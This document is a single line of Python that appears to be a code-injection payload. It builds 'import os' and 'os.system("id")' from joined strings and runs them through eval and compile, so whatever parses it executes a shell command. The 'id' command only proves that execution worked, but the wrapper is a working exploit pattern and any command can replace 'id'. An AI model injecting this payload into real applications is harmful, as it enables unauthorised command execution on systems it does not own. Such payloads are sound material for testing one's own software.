eval(compile('\n'.join(['import os', 'os.system("id")']), '', 'exec'))
